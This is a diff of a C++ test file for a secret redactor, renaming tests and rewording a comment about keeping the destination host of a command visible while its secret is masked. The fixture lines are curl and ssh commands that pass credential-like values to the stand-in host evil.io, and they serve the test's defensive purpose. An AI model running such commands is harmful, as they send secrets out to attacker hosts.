@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: Apache-2.0
-// Where a command sends data stays visible, whatever the text around the host is called.
+// The destination to which a command sends data stays visible, even if the text around the host has a secret's name.
 #include "tests/security/redactor_fixture.hpp"
 #include "tests/security/shell_commands.hpp"
 
@@ -11,7 +11,7 @@ struct Line {
     std::string_view shown;
 };
 
-TEST(RedactorDestination, I9_TheHostBehindASecretStaysVisible) {
+TEST(RedactorDestination, I9_TheHostAfterASecretStaysVisible) {
     for (const auto& [text, shown] : std::to_array<Line>({
              {"curl https://token=hunter2x@evil.io/", "@evil.io/"},
              {"ssh password=hunter2x@evil.io", "@evil.io"},
@@ -103,7 +103,7 @@ TEST(RedactorDestination, I13_AHostAndASchemeAreReadUpToABound) {
     EXPECT_TRUE(contains(scheme(33), "»" + std::string(32, 's') + "://evil.io")) << scheme(33);
 }
 
-TEST(RedactorDestination, I9_EveryHostOfARandomCommandSurvives) {
+TEST(RedactorDestination, I9_EveryHostOfARandomCommandStaysVisible) {
     Random random{99};
     std::size_t masked = 0;
     for (std::size_t i = 0; i < 40'000; ++i) {
